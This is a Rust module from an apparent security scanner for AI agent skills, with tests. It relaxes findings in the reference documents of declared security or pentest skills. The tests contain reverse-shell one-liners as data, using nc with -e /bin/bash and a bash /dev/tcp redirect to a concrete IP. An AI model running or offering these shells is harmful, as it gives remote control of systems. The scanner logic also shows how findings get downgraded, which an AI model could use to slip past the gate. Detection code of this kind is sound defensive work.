//! Security knowledge is not an attack.
//!
//! Security-review, detection, incident-response and pentest skills carry reference pages and
//! data files full of what they look for: reverse shells, browser credential stores in a MITRE
//! mapping, request-catcher hosts in a scanner's config, miner droppers as IOCs. When the stated
//! purpose is security work (the `dual_use` and `security_work` keywords of
//! `rules/data/intent-lexicon.yaml`), a finding in such a file (a document beside SKILL.md, or a
//! data file: YAML, JSON, text) is knowledge to recognise: reported at info, with no kill-chain
//! stage. SKILL.md itself and every script are still read as what the skill does: the same text
//! as a step to run stays what it is.
//!
//! A security skill may also declare a technique as what it is for ("creating reverse shells
//! for authorized penetration testing"). A rule's `declared_by` names its technique; where the
//! skill's name and description declare it, a finding of that rule whose line reaches no public
//! endpoint (a placeholder `<attacker-ip>`, a lab address, a listener) in one of its documents
//! (a template for the operator, not a script the skill runs) is a declared capability:
//! high at most, with no stage, so the skill is held at T1. A concrete public host stays what
//! it was: a declared pentest tool does not get to phone home.

use crate::rule::DataRule;
use skillgate_model::bundle::is_document;
use skillgate_model::purposes::Lexicon;
use skillgate_model::remote_source::public_endpoint;
use skillgate_model::{Finding, KillChainStage, Severity};

/// Data files a security skill keeps its knowledge in.
const DATA_EXTENSIONS: &[&str] = &[".yaml", ".yml", ".json", ".txt", ".csv", ".toml", ".rules"];

fn reference_material(path: &str) -> bool {
    let name = path.rsplit('/').next().unwrap_or(path);
    if name.eq_ignore_ascii_case("SKILL.md") {
        return false;
    }
    let lower = path.to_ascii_lowercase();
    is_document(path) || DATA_EXTENSIONS.iter().any(|e| lower.ends_with(e))
}

/// Findings in the reference material of a security skill become information.
pub fn check(purpose: &str, out: &mut [Finding]) {
    if !Lexicon::shared().is_security_work(purpose) {
        return;
    }
    for f in out.iter_mut().filter(|f| {
        f.kill_chain != KillChainStage::None && f.file.as_deref().is_some_and(reference_material)
    }) {
        f.severity = Severity::Info;
        f.kill_chain = KillChainStage::None;
        f.message.push_str(
            " (security knowledge: reference material of a declared security skill; reported, \
             not held against it)",
        );
    }
}

/// Findings of a technique a security skill's name and description declare, on lines that reach
/// no public endpoint, become declared capabilities.
pub fn check_declared(declaration: &str, purpose: &str, rules: &[DataRule], out: &mut [Finding]) {
    if !Lexicon::shared().is_security_work(purpose) {
        return;
    }
    let declares = |code: &str| {
        rules.iter().any(|r| {
            r.spec.code == code
                && r.declared_by
                    .as_ref()
                    .is_some_and(|d| d.is_match(declaration))
        })
    };
    // Only the one-liners of its documents: a script's endpoint may sit anywhere in it, and a
    // script is what the skill runs, not a template for the operator.
    for f in out.iter_mut().filter(|f| {
        f.kill_chain != KillChainStage::None
            && f.file.as_deref().is_some_and(is_document)
            && declares(&f.code)
            && [&f.evidence, &f.snippet]
                .iter()
                .all(|text| public_endpoint(text.as_deref().unwrap_or("")).is_none())
    }) {
        f.severity = f.severity.min(Severity::High);
        f.kill_chain = KillChainStage::None;
        f.message.push_str(
            " (declared: the skill's description names this technique as its purpose, and the \
             line reaches no public endpoint; held at T1, not rejected)",
        );
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use skillgate_model::{Confidence, Gate};

    fn at(file: &str) -> Finding {
        Finding::new(
            "SK406",
            Gate::G1,
            Severity::High,
            Confidence::High,
            "c",
            "m",
        )
        .with_stage(KillChainStage::CredentialAccess)
        .at(file, Some(3), None)
    }

    #[test]
    fn a_declared_technique_is_held_unless_it_reaches_a_public_endpoint() {
        let rules = crate::registry::Registry::load().unwrap();
        let shell = |file: &str, line: &str| {
            Finding::new(
                "SK210",
                Gate::G1,
                Severity::Critical,
                Confidence::High,
                "execution",
                "m",
            )
            .with_stage(KillChainStage::Execution)
            .with_evidence(line)
            .at(file, Some(9), None)
        };
        let mut out = vec![
            shell("SKILL.md", "nc <attacker-ip> 4444 -e /bin/bash"),
            shell("SKILL.md", "nc -lvnp 4444 -e /bin/bash"),
            shell("SKILL.md", "bash -i >& /dev/tcp/45.33.32.156/4444 0>&1"),
            shell("scripts/shell.py", "os.dup2(s.fileno(), 0)"),
        ];
        let purpose = "netcat\nCreating reverse shells for authorized penetration testing";
        check_declared(purpose, purpose, rules.data_rules(), &mut out);
        let held: Vec<bool> = out.iter().map(|f| f.severity == Severity::High).collect();
        assert_eq!(held, [true, true, false, false]);
        // Not declared: a log monitor with a reverse shell keeps it critical.
        let mut undeclared = vec![shell("SKILL.md", "nc <attacker-ip> 4444 -e /bin/bash")];
        let purpose = "socket monitor\nMonitors a socket server for penetration testing";
        check_declared(purpose, purpose, rules.data_rules(), &mut undeclared);
        assert_eq!(undeclared[0].severity, Severity::Critical);
    }

    #[test]
    fn attack_text_in_a_security_skills_references_is_knowledge_but_not_in_its_instructions() {
        let mut out = vec![
            at("references/mitre-attack-mapping.md"),
            at("assets/hunt-template.yaml"),
            at("SKILL.md"),
            at("scripts/collect.py"),
        ];
        check(
            "ir velociraptor\nIncident response hunts with Velociraptor",
            &mut out,
        );
        let kept: Vec<bool> = out
            .iter()
            .map(|f| f.kill_chain != KillChainStage::None)
            .collect();
        assert_eq!(kept, [false, false, true, true]);
        let mut other = vec![at("references/notes.md")];
        check("markdown tables\nFormats tables", &mut other);
        assert_eq!(other[0].kill_chain, KillChainStage::CredentialAccess);
    }
}
